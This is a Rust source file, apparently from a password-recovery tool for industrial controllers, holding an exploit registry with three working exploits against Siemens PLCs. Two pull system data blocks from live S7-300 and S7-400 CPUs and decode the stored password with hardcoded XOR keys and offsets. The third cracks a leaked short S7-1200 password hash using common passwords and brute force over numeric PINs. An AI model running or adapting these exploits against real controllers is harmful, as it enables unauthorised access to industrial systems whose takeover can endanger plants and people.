/// Known-vulnerability catalogue
///
/// Each exploit targets a specific weakness in a controller family and
/// either recovers the password outright or reports why it could not.
/// Exploits run against a live target only after their own
/// applicability check passes; a failed exploit never aborts the run.
use crate::driver::DriverError;
use crate::recovery::bruteforce::{CandidateSpace, CharsetMode};
use crate::recovery::engine::RecoveryTarget;
use crate::BlockKind;

use sha2::{Digest, Sha256};

/// Static facts about one exploit, used for registry filtering and
/// operator-facing listings.
#[derive(Debug, Clone)]
pub struct ExploitDescriptor {
    pub name: &'static str,
    pub description: &'static str,
    pub affected_vendors: &'static [&'static str],
    pub affected_models: &'static [&'static str],
    pub affected_firmware: &'static [&'static str],
    pub cve: Option<&'static str>,
}

#[derive(Debug, Clone, Default)]
pub struct ExploitOutcome {
    pub success: bool,
    pub password: Option<String>,
    pub message: Option<String>,
}

impl ExploitOutcome {
    fn recovered(password: String, message: impl Into<String>) -> Self {
        Self {
            success: true,
            password: Some(password),
            message: Some(message.into()),
        }
    }

    fn failed(message: impl Into<String>) -> Self {
        Self {
            success: false,
            password: None,
            message: Some(message.into()),
        }
    }
}

pub trait Exploit: Send + Sync {
    fn descriptor(&self) -> &ExploitDescriptor;

    /// Cheap pre-check against target metadata; no device traffic.
    fn check_applicable(&self, target: &RecoveryTarget) -> bool;

    /// Run the exploit. Failures are reported in the outcome, not as
    /// errors, so the engine can fall through to the next exploit.
    fn execute(&self, target: &mut RecoveryTarget) -> ExploitOutcome;
}

/// Ordered collection of exploits, filtered per target at run time.
pub struct ExploitRegistry {
    exploits: Vec<Box<dyn Exploit>>,
}

impl ExploitRegistry {
    pub fn empty() -> Self {
        Self { exploits: Vec::new() }
    }

    /// Registry pre-loaded with the built-in exploits.
    pub fn builtin() -> Self {
        let mut registry = Self::empty();
        registry.register(Box::new(S7_300SdbExtract));
        registry.register(Box::new(S7_400SdbExtract));
        registry.register(Box::new(S7_1200WeakHash));
        registry
    }

    pub fn register(&mut self, exploit: Box<dyn Exploit>) {
        tracing::debug!("registered exploit {}", exploit.descriptor().name);
        self.exploits.push(exploit);
    }

    pub fn len(&self) -> usize {
        self.exploits.len()
    }

    pub fn is_empty(&self) -> bool {
        self.exploits.is_empty()
    }

    pub fn descriptors(&self) -> impl Iterator<Item = &ExploitDescriptor> {
        self.exploits.iter().map(|e| e.descriptor())
    }

    /// Exploits whose descriptor matches the vendor and model, in
    /// registration order.
    pub fn applicable_to(&self, vendor: &str, model: &str) -> Vec<&dyn Exploit> {
        let vendor = vendor.to_ascii_lowercase();
        let model = model.to_ascii_lowercase();
        self.exploits
            .iter()
            .filter(|e| {
                let d = e.descriptor();
                let vendor_ok = d
                    .affected_vendors
                    .iter()
                    .any(|v| v.to_ascii_lowercase() == vendor);
                let model_ok = d.affected_models.iter().any(|m| {
                    let m = m.to_ascii_lowercase();
                    model.contains(&m) || m.contains(&model)
                });
                vendor_ok && model_ok
            })
            .map(|e| e.as_ref())
            .collect()
    }
}

impl Default for ExploitRegistry {
    fn default() -> Self {
        Self::builtin()
    }
}

fn xor_decode(data: &[u8], key: &[u8]) -> Vec<u8> {
    data.iter()
        .enumerate()
        .map(|(i, b)| b ^ key[i % key.len()])
        .collect()
}

/// Decode an obfuscated password field: printable ASCII, NUL-padded.
fn decode_password_field(data: &[u8]) -> Option<String> {
    let trimmed: &[u8] = {
        let end = data.iter().position(|&b| b == 0).unwrap_or(data.len());
        &data[..end]
    };
    if trimmed.is_empty() {
        return None;
    }
    if !trimmed.iter().all(|&b| (0x20..0x7f).contains(&b)) {
        return None;
    }
    Some(String::from_utf8_lossy(trimmed).into_owned())
}

/// S7-300 system data block extraction.
///
/// Older S7-300 firmware serves SDB 7 without authentication; the CPU
/// password sits at a fixed offset under a static XOR mask.
pub struct S7_300SdbExtract;

impl S7_300SdbExtract {
    const XOR_KEY: [u8; 8] = [0x64, 0xfe, 0x89, 0x3b, 0x21, 0x9a, 0x45, 0xcd];

    const DESCRIPTOR: ExploitDescriptor = ExploitDescriptor {
        name: "S7-300 SDB Extraction",
        description: "Extract password from System Data Block 7",
        affected_vendors: &["Siemens"],
        affected_models: &["S7-300", "S7-315", "S7-317", "S7-319"],
        affected_firmware: &["V1.x", "V2.x", "V3.0", "V3.1", "V3.2"],
        cve: None,
    };

    fn extract_password(sdb: &[u8]) -> Option<String> {
        if sdb.len() < 0x1a {
            return None;
        }
        // Protection level below 2 means no password is set.
        if sdb[0x10] < 2 {
            return None;
        }
        let decoded = xor_decode(&sdb[0x12..0x1a], &Self::XOR_KEY);
        decode_password_field(&decoded)
    }
}

impl Exploit for S7_300SdbExtract {
    fn descriptor(&self) -> &ExploitDescriptor {
        &Self::DESCRIPTOR
    }

    fn check_applicable(&self, target: &RecoveryTarget) -> bool {
        target.is_live() && target.model.to_ascii_lowercase().contains("s7-3")
    }

    fn execute(&self, target: &mut RecoveryTarget) -> ExploitOutcome {
        let Some(driver) = target.driver_mut() else {
            return ExploitOutcome::failed("no device connection");
        };

        let image = match driver.upload_program() {
            Ok(image) => image,
            Err(DriverError::AccessDenied(detail)) => {
                return ExploitOutcome::failed(format!("SDB access denied: {detail}"))
            }
            Err(e) => return ExploitOutcome::failed(format!("exploit failed: {e}")),
        };

        let Some(sdb) = image.block(BlockKind::System, 7) else {
            return ExploitOutcome::failed("SDB 7 not present in upload");
        };
        if sdb.data.len() <= 20 {
            return ExploitOutcome::failed("SDB 7 too short or empty");
        }

        match Self::extract_password(&sdb.data) {
            Some(password) => {
                ExploitOutcome::recovered(password, "password extracted from SDB 7")
            }
            None => ExploitOutcome::failed("SDB downloaded but no password found"),
        }
    }
}

/// S7-400 system data block extraction.
///
/// The S7-400 keeps protection material across several SDBs and the
/// field offset moved between firmware generations, so every
/// combination of block, offset and mask is tried.
pub struct S7_400SdbExtract;

impl S7_400SdbExtract {
    const XOR_KEY_V4: [u8; 8] = [0x55, 0xaa, 0x55, 0xaa, 0x55, 0xaa, 0x55, 0xaa];
    const XOR_KEY_V5: [u8; 8] = [0x3c, 0x9e, 0x7d, 0x2f, 0x8b, 0x4a, 0x1e, 0xc6];
    const SDB_NUMBERS: [u32; 3] = [7, 1, 100];
    const OFFSETS: [usize; 4] = [0x12, 0x14, 0x20, 0x24];

    const DESCRIPTOR: ExploitDescriptor = ExploitDescriptor {
        name: "S7-400 SDB Extraction",
        description: "Extract password from System Data Block",
        affected_vendors: &["Siemens"],
        affected_models: &["S7-400", "S7-410", "S7-412", "S7-414", "S7-416", "S7-417"],
        affected_firmware: &["V1.x", "V2.x", "V3.x", "V4.x", "V5.x"],
        cve: None,
    };

    fn extract_password(sdb: &[u8]) -> Option<String> {
        for &offset in &Self::OFFSETS {
            if offset + 8 > sdb.len() {
                continue;
            }
            let field = &sdb[offset..offset + 8];

            for key in [&Self::XOR_KEY_V4, &Self::XOR_KEY_V5] {
                if let Some(password) = decode_password_field(&xor_decode(field, key)) {
                    return Some(password);
                }
            }
            // Some configurations store the field cleartext.
            if let Some(password) = decode_password_field(field) {
                return Some(password);
            }
        }
        None
    }
}

impl Exploit for S7_400SdbExtract {
    fn descriptor(&self) -> &ExploitDescriptor {
        &Self::DESCRIPTOR
    }

    fn check_applicable(&self, target: &RecoveryTarget) -> bool {
        target.is_live() && target.model.to_ascii_lowercase().contains("s7-4")
    }

    fn execute(&self, target: &mut RecoveryTarget) -> ExploitOutcome {
        let Some(driver) = target.driver_mut() else {
            return ExploitOutcome::failed("no device connection");
        };

        let image = match driver.upload_program() {
            Ok(image) => image,
            Err(e) => return ExploitOutcome::failed(format!("exploit failed: {e}")),
        };

        for number in Self::SDB_NUMBERS {
            let Some(sdb) = image.block(BlockKind::System, number) else {
                continue;
            };
            if sdb.data.len() <= 20 {
                continue;
            }
            if let Some(password) = Self::extract_password(&sdb.data) {
                return ExploitOutcome::recovered(
                    password,
                    format!("password extracted from SDB {number}"),
                );
            }
        }

        ExploitOutcome::failed("no password found in SDBs")
    }
}

/// S7-1200 weak hash crack.
///
/// Early S7-1200 firmware derives a short 8-byte password hash that can
/// be attacked offline once leaked through the protection status.
pub struct S7_1200WeakHash;

impl S7_1200WeakHash {
    const COMMON_PASSWORDS: [&'static str; 10] = [
        "", "1234", "0000", "1111", "password", "admin", "siemens", "SIEMENS", "plc", "PLC",
    ];
    const MAX_DIGIT_LENGTH: usize = 5;

    const DESCRIPTOR: ExploitDescriptor = ExploitDescriptor {
        name: "S7-1200 Weak Hash Crack",
        description: "Crack weak password hash from early S7-1200 firmware",
        affected_vendors: &["Siemens"],
        affected_models: &["S7-1200", "S7-1211", "S7-1212", "S7-1214", "S7-1215", "S7-1217"],
        affected_firmware: &["V1.x", "V2.x", "V3.x"],
        cve: None,
    };

    /// 8-byte hash used by vulnerable firmware: truncated SHA-256 over
    /// salt and password.
    pub(crate) fn weak_hash(password: &str, salt: &[u8]) -> Vec<u8> {
        let mut hasher = Sha256::new();
        hasher.update(salt);
        hasher.update(password.as_bytes());
        hasher.finalize()[..8].to_vec()
    }

    fn crack(hash: &[u8], salt: &[u8]) -> Option<String> {
        for candidate in Self::COMMON_PASSWORDS {
            if Self::weak_hash(candidate, salt) == hash {
                return Some(candidate.to_string());
            }
        }
        // Numeric PINs dominate on the factory floor.
        let space =
            CandidateSpace::new(CharsetMode::Numeric.charset(), 1, Self::MAX_DIGIT_LENGTH);
        for candidate in space {
            if Self::weak_hash(&candidate, salt) == hash {
                return Some(candidate);
            }
        }
        None
    }
}

impl Exploit for S7_1200WeakHash {
    fn descriptor(&self) -> &ExploitDescriptor {
        &Self::DESCRIPTOR
    }

    fn check_applicable(&self, target: &RecoveryTarget) -> bool {
        if !target.is_live() || !target.model.to_ascii_lowercase().contains("s7-12") {
            return false;
        }
        let firmware = target.firmware.as_deref().unwrap_or("").to_ascii_lowercase();
        firmware.contains("v1") || firmware.contains("v2") || firmware.contains("v3")
    }

    fn execute(&self, target: &mut RecoveryTarget) -> ExploitOutcome {
        let Some(driver) = target.driver_mut() else {
            return ExploitOutcome::failed("no device connection");
        };

        let status = match driver.protection_status() {
            Ok(status) => status,
            Err(e) => return ExploitOutcome::failed(format!("exploit failed: {e}")),
        };

        let Some(hash) = status
            .details
            .get("password_hash")
            .and_then(|h| hex::decode(h).ok())
        else {
            return ExploitOutcome::failed("could not extract password hash");
        };
        let salt = status
            .details
            .get("salt")
            .and_then(|s| hex::decode(s).ok())
            .unwrap_or_default();

        match Self::crack(&hash, &salt) {
            Some(password) => ExploitOutcome::recovered(password, "password cracked from hash"),
            None => ExploitOutcome::failed("hash extracted but could not crack"),
        }
    }
}
